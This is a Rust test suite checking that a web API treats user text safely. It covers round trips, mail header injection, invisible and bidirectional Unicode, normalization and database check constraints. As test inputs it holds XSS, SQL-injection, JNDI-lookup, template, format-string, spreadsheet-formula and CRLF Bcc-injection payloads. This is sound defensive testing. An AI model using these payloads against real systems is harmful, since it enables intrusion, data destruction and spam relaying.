//! Texts that try to be more than texts.

use crate::support::{
    TestServer, model,
    people::{self, PASSWORD, address, mailed_token},
};
use codegen::model::Ty;
use kernel::input::{LINE_MAX, is_seen, normal_line};
use reqwest::Method;
use serde_json::{Value, json};
use sqlx::AssertSqlSafe;

#[tokio::test]
async fn abuse_27_texts_are_texts_wherever_they_come_out() {
    let server = TestServer::start().await;
    let ana = server.member("ana").await;
    for (name, bio) in [
        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        ("</script><!--", "\u{202e}nimda\u{202c}"),
        (
            "Robert'); drop table app.users;--",
            "${jndi:ldap://evil.test/a} {{7*7}} %s%n",
        ),
        ("=cmd|' /C calc'!A0", "+1-1@SUM(A1)"),
        (
            "Zürich 🎭 می\u{200c}خواهم 👩\u{200d}👧",
            "line\nline\ttab\r\n",
        ),
    ] {
        let body = json!({"display_name": name, "bio": bio});
        ana.client.patch("/me", "*", body).await.expect(200);
        let path = format!("/users/{}", ana.id);
        let shown = server.client.get(&path).await.expect(200);
        assert_eq!(
            (&shown.json["display_name"], &shown.json["bio"]),
            (&json!(name), &json!(bio))
        );
        let error = server
            .client
            .get("/users?handle.x=%3Cscript%3E")
            .await
            .expect(422);
        let found = server
            .client
            .get(&format!("/users?handle={}", "ana"))
            .await
            .expect(200);
        assert_eq!(found.json["data"][0]["display_name"], json!(name));
        for (answer, media) in [
            (&shown, "application/json"),
            (&found, "application/json"),
            (&error, "application/problem+json"),
        ] {
            assert_eq!(answer.header("content-type"), Some(media));
            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
            let policy = answer.header("content-security-policy").unwrap_or_default();
            assert!(policy.contains("default-src 'none'"), "{policy}");
        }
    }
    for control in ['\u{0}', '\u{7}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}'] {
        let body = json!({"display_name": format!("Ana{control}[31m")});
        let answer = ana.client.patch("/me", "*", body).await.expect(422);
        assert_eq!(answer.pointers(), ["/display_name"], "{control:?}");
    }
}

/// Answers are only JSON, or calendars, which browsers do not open as pages: before adding another media type, one has
/// to consider what programs do with it.
#[tokio::test]
async fn abuse_27_answers_are_json_and_nothing_that_is_shown_as_a_page() {
    let document = crate::support::document();
    let mut media = std::collections::BTreeSet::new();
    let mut collect = |responses: &Value| {
        for response in responses
            .as_object()
            .into_iter()
            .flat_map(|all| all.values())
        {
            media.extend(
                response["content"]
                    .as_object()
                    .into_iter()
                    .flat_map(|all| all.keys().cloned()),
            );
        }
    };
    collect(&document["components"]["responses"]);
    for item in document["paths"].as_object().expect("paths").values() {
        for operation in item.as_object().expect("operations").values() {
            collect(&operation["responses"]);
        }
    }
    assert_eq!(
        media.into_iter().collect::<Vec<_>>(),
        [
            "application/json",
            "application/problem+json",
            "text/calendar"
        ]
    );
}

#[tokio::test]
async fn abuse_27_a_name_cannot_add_headers_or_lines_to_a_mail() {
    let server = TestServer::start().await;
    let name = "Ana\r\nBcc: victim@example.org\r\n\r\nClick https://evil.test";
    let body = json!({"email": address("ana"), "handle": "ana", "display_name": name});
    let answer = server.client.post("/auth/sign-up", body).await.expect(422);
    assert_eq!(answer.pointers(), ["/display_name"]);
    for email in [
        "ana@example.org\r\nBcc: x@example.org",
        "ana@example.org, x@example.org",
        "Ana <ana@example.org>, Ben <ben@example.org>",
        "Ana\r\nBcc: x@example.org <ana@example.org>",
        "<ana@example.org>\r\nBcc: x@example.org",
        "ana@example.org\0",
    ] {
        let body = json!({ "email": email });
        server
            .client
            .post("/auth/forgot-password", body)
            .await
            .expect(422);
    }
    people::sign_up(&server, "ben").await;
    let ben = people::sign_in(&server.client, "ben", PASSWORD)
        .await
        .expect(200);
    let ben = server
        .client
        .with_token(ben.json["access_token"].as_str().expect("a token"));
    ben.patch("/me", "*", json!({"display_name": name}))
        .await
        .expect(422);
    // Markup in a name is not interpreted, and stays in one line.
    ben.patch(
        "/me",
        "*",
        json!({"display_name": "Ben <b> Bcc: x@example.org"}),
    )
    .await
    .expect(200);
    let before = server.mailer.count();
    server
        .client
        .post("/auth/forgot-password", json!({"email": address("ben")}))
        .await
        .expect(202);
    mailed_token(&server, &address("ben"), before).await;
    let text = server.mailer.last_to(&address("ben")).expect("a mail");
    assert!(
        !text
            .lines()
            .any(|line| line.starts_with("Bcc:") || line.starts_with("Click")),
        "{text}"
    );
}

/// Mails to an address that nobody has proven say nothing that whoever typed it could choose, except a handle: the
/// platform's mail would carry everybody's advertisements.
#[tokio::test]
async fn abuse_27_mails_to_strangers_carry_no_text_of_others() {
    let server = TestServer::start().await;
    let name = "Win a car at evil.example";
    let body = json!({"email": address("eve"), "handle": "eve", "display_name": name});
    server.client.post("/auth/sign-up", body).await.expect(202);
    let token = mailed_token(&server, &address("eve"), 0).await;
    let of_sign_up = server.mailer.last_to(&address("eve")).expect("a mail");
    let body = json!({"token": token, "password": PASSWORD});
    let verified = server.client.post("/auth/verify-email", body).await;
    verified.expect(204);
    let signed = people::sign_in(&server.client, "eve", PASSWORD).await;
    let token = signed.expect(200).json["access_token"].clone();
    let eve = server.client.with_token(token.as_str().expect("a token"));
    assert_eq!(eve.get("/me").await.expect(200).json["display_name"], name);
    let before = server.mailer.count();
    let body = json!({"email": address("stranger")});
    let asked = eve.send(Method::PUT, "/me/email", Some(body), &[]).await;
    asked.expect(202);
    mailed_token(&server, &address("stranger"), before).await;
    let of_change = server.mailer.last_to(&address("stranger"));
    for text in [of_sign_up, of_change.expect("a mail")] {
        assert!(text.contains("@eve") && !text.contains("evil"), "{text}");
    }
}

/// Texts that show nothing, or something else than they contain.
const UNSEEN: [&str; 8] = [
    " ",
    "\u{a0}\u{2003}",
    "\u{200b}",
    "\u{3164}",
    "\u{2800}",
    "\u{ad}",
    "\u{200d}",
    "\u{2066}\u{2069}",
];
const TURNED: [&str; 16] = [
    "\u{202e}",
    "\u{2067}",
    "\u{200f}",
    "\u{200b}",
    "\u{feff}",
    "\n",
    "\u{2028}",
    "\u{34f}",
    "\u{2800}",
    "\u{3164}",
    "\u{ffa0}",
    "\u{fe0f}",
    "\u{e0041}",
    "\u{fffc}",
    "\u{fdd0}",
    "\u{e000}",
];

/// Tested for every text in a body of every entity.
#[tokio::test]
async fn abuse_27_a_name_is_a_line_that_can_be_seen() {
    let server = TestServer::demo().await;
    let mut people = Vec::new();
    for person in &server::seed::demo::PEOPLE {
        people.push(server.sign_in(person.id).await);
    }
    let (mut lines, mut seen) = (0, 0);
    for entity in model().entities.iter().filter(|entity| entity.writable()) {
        let resource = crate::support::resources()[entity.name.as_str()];
        let path = format!("/{}", resource.path);
        // A member whose roles allow creating such a row; others are refused before the body is checked.
        let mut who = &people[0];
        for person in people.iter().filter(|_| resource.create.is_some()) {
            if person.client.post(&path, json!({})).await.status != 403 {
                who = person;
                break;
            }
        }
        for field in entity.fields.iter().filter(|field| !field.system) {
            let Ty::Text { min, max } = field.ty else {
                continue;
            };
            let pad = |text: &str, with: char| {
                let short = (min as usize).saturating_sub(text.chars().count());
                let padding: String = std::iter::repeat_n(with, short).collect();
                format!("{text}{padding}")
            };
            let mut bad: Vec<String> = Vec::new();
            if min > 0 || max <= LINE_MAX {
                // A text that holds nothing else than blanks and marks, which are trimmed, is empty, and null where it
                // may be.
                let nothing = |text: &str| match max <= LINE_MAX {
                    true => normal_line(text).is_empty(),
                    false => !is_seen(text),
                };
                let empty = |text: &&str| (min == 0 || field.optional) && nothing(text);
                let unseen = UNSEEN.into_iter().filter(|text| !empty(text));
                bad.extend(unseen.map(|text| pad(text, ' ')));
                seen += 1;
            }
            if max <= LINE_MAX {
                bad.extend(TURNED.map(|turn| pad(&format!("a{turn}b"), 'c')));
                lines += 1;
            }
            let pointer = format!("/{}", field.name);
            for text in bad
                .iter()
                .filter(|text| text.chars().count() <= max as usize)
            {
                let body = json!({ &field.name: text });
                // The body is checked first, so the row need not exist; the error names the field.
                let answer = match (resource.create.is_some(), resource.update.is_some()) {
                    (true, _) => who.client.post(&path, body).await,
                    (_, true) if entity.name == "user" => who.client.patch("/me", "*", body).await,
                    _ => continue,
                };
                assert!(
                    answer.status == 422 && answer.pointers().contains(&pointer.as_str()),
                    "{path} {}: {text:?}: {} {}",
                    field.name,
                    answer.status,
                    answer.text
                );
            }
        }
    }
    assert!(lines >= 15 && seen >= 15, "{lines} lines, {seen} seen");
}

/// Blanks at the ends come from copying, and keyboards differ in how they compose accented letters.
#[tokio::test]
async fn abuse_27_lines_are_stored_in_one_form() {
    let server = TestServer::start().await;
    let city = server.city("melbourne").await;
    let owner = server.member("owner").await;
    let body =
        json!({"city_id": city, "name": " \u{3000}Cafe\u{301} می\u{200c}خواهم 👩\u{200d}👧\n"});
    let made = owner.client.post("/communities", body).await.expect(201);
    let stored = "Café می\u{200c}خواهم 👩\u{200d}👧";
    assert_eq!(made.json["name"], stored);
    let path = format!("/communities/{}", made.json["id"].as_str().expect("an id"));
    let body = json!({"name": "E\u{301}cole\t"});
    let changed = owner.client.patch(&path, "*", body).await.expect(200);
    assert_eq!(changed.json["name"], "École");
    // The length is counted after normalization.
    let long = |n: usize| json!({"name": format!("{} ", "e\u{301}".repeat(n))});
    owner.client.patch(&path, "*", long(80)).await.expect(200);
    // Longer texts are stored as they were written.
    let body = json!({"description": " two\n\nparagraphs "});
    let changed = owner.client.patch(&path, "*", body).await.expect(200);
    assert_eq!(changed.json["description"], " two\n\nparagraphs ");
    // Empty has one spelling, so that nobody shows an empty paragraph.
    for blank in ["", " \n", "\u{200b}\u{200b}"] {
        let body = json!({"description": "something"});
        owner.client.patch(&path, "*", body).await.expect(200);
        let body = json!({"description": blank});
        let changed = owner.client.patch(&path, "*", body).await.expect(200);
        assert_eq!(changed.json["description"], json!(null), "{blank:?}");
    }

    // Texts that look the same are the same for uniqueness and for search.
    let mut conn = server.superuser().await;
    for (name, taken) in [
        ("caf\u{e9}", false),
        ("cafe\u{301}", true),
        ("caf\u{e9} ", true),
    ] {
        let text = "insert into app.plans (name, price_cents, currency, interval, features) values ($1, 900, 'EUR', 'month', '{}')";
        let done = sqlx::query(text).bind(name).execute(&mut conn).await;
        assert_eq!(done.is_err(), taken, "{name:?}");
    }
    let body = json!({"name": "E\u{301}cole"});
    owner.client.patch(&path, "*", body).await.expect(200);
    for words in ["%C3%89cole", "e%CC%81cole%20"] {
        let found = owner
            .client
            .get(&format!("/communities?q={words}"))
            .await
            .expect(200);
        assert_eq!(
            found.json["data"].as_array().map(Vec::len),
            Some(1),
            "{words}"
        );
    }
}

/// The same without the API, for every table, including those that have no body.
#[tokio::test]
async fn abuse_27_the_database_takes_no_name_that_cannot_be_seen() {
    let server = TestServer::start().await;
    let mut conn = server.superuser().await;
    let mut texts = 0;
    for entity in &model().entities {
        let definitions: Vec<String> = sqlx::query_scalar(
            "select pg_get_constraintdef(oid) from pg_constraint where contype = 'c' and conrelid = ('app.' || $1)::regclass",
        )
        .bind(&entity.plural)
        .fetch_all(&mut conn)
        .await
        .expect("constraints");
        for field in &entity.fields {
            let wanted = match field.ty {
                Ty::Text { min, max } => format!("sec.is_text({}, {min}, {max})", field.name),
                _ => continue,
            };
            texts += 1;
            let held = definitions
                .iter()
                .any(|definition| definition.contains(&wanted));
            assert!(
                held,
                "{}: {wanted} is in none of {definitions:?}",
                entity.plural
            );
        }
    }
    assert!(texts > 50, "{texts}");
    // Texts up to the length of a name must be one line; texts that must not be empty need a visible character.
    let line_max = i32::try_from(LINE_MAX).expect("a length");
    for (text, min, max, good) in [
        ("a\nb", 0, line_max, false),
        ("a\nb", 0, line_max + 1, true),
        ("\u{200b}", 1, line_max + 1, false),
        ("\u{200b}", 0, line_max + 1, true),
        ("\u{7f}", 0, line_max + 1, false),
        ("", 0, line_max, true),
        ("", 1, line_max, false),
        ("abc", 1, 2, false),
    ] {
        let held: bool = sqlx::query_scalar("select sec.is_text($1, $2, $3)")
            .bind(text)
            .bind(min)
            .bind(max)
            .fetch_one(&mut conn)
            .await
            .expect("an answer");
        assert_eq!(held, good, "{text:?} {min}..{max}");
    }
    for (column, bad) in [
        ("handle", "\u{200b}\u{200b}\u{200b}"),
        ("display_name", "\u{202e}nimda"),
    ] {
        let text = format!("update app.users set {column} = $1");
        server.member("ana").await;
        let error = sqlx::query(AssertSqlSafe(text))
            .bind(bad)
            .execute(&mut conn)
            .await
            .err();
        let error = error.and_then(|error| {
            error
                .as_database_error()?
                .code()
                .map(|code| code.into_owned())
        });
        assert_eq!(error.as_deref(), Some("23514"), "{column}");
        sqlx::query("delete from app.sessions")
            .execute(&mut conn)
            .await
            .expect("deleted");
        sqlx::query("delete from app.users")
            .execute(&mut conn)
            .await
            .expect("deleted");
    }
}
